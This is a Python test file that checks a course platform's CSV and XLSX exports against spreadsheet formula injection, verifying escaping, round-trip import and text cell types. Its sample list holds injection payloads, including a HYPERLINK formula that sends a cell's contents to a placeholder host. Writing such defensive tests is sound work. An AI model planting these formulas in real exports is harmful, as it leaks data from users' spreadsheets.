"""Exports never hand a spreadsheet a formula (CSV/XLSX injection, issue 10)."""

import csv
import io

from openpyxl import Workbook, load_workbook

from verbund.core.services.spreadsheet import csv_row, csv_unescape, xlsx_row
from verbund.courses.services import tabular

EVIL = ['=HYPERLINK("http://x/?"&A1)', "+49 511 1234", "-2+3", "@SUM(A1)", "\t=1", "Normal"]


def test_csv_cells_get_a_text_marker_and_come_back_on_import():
    escaped = csv_row(EVIL)
    assert escaped[:5] == ["'" + value for value in EVIL[:5]] and escaped[5] == "Normal"
    assert [csv_unescape(value) for value in escaped] == EVIL
    assert csv_row([3, None, "a=b"]) == [3, None, "a=b"]


def test_xlsx_text_stays_text():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(xlsx_row(sheet, EVIL))
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    assert [cell.data_type for cell in cells] == ["s"] * len(EVIL)
    assert cells[0].value == EVIL[0]


def test_course_export_round_trip_keeps_the_title():
    row = dict.fromkeys(tabular.COLUMNS, "")
    row.update(title="=1+1 Excel-Kurs", offer_id="K-1")
    data = tabular.write_csv([row])
    text = data.decode("utf-8-sig")
    cells = next(r for r in csv.reader(io.StringIO(text), delimiter=";") if "K-1" in r)
    assert "'=1+1 Excel-Kurs" in cells
    (read,) = list(tabular.read_csv(data))
    assert read.values["title"] == "=1+1 Excel-Kurs"
    workbook = load_workbook(io.BytesIO(tabular.write_xlsx([row])))
    values = [cell for line in workbook.active.iter_rows() for cell in line]
    assert any(cell.value == "=1+1 Excel-Kurs" and cell.data_type == "s" for cell in values)
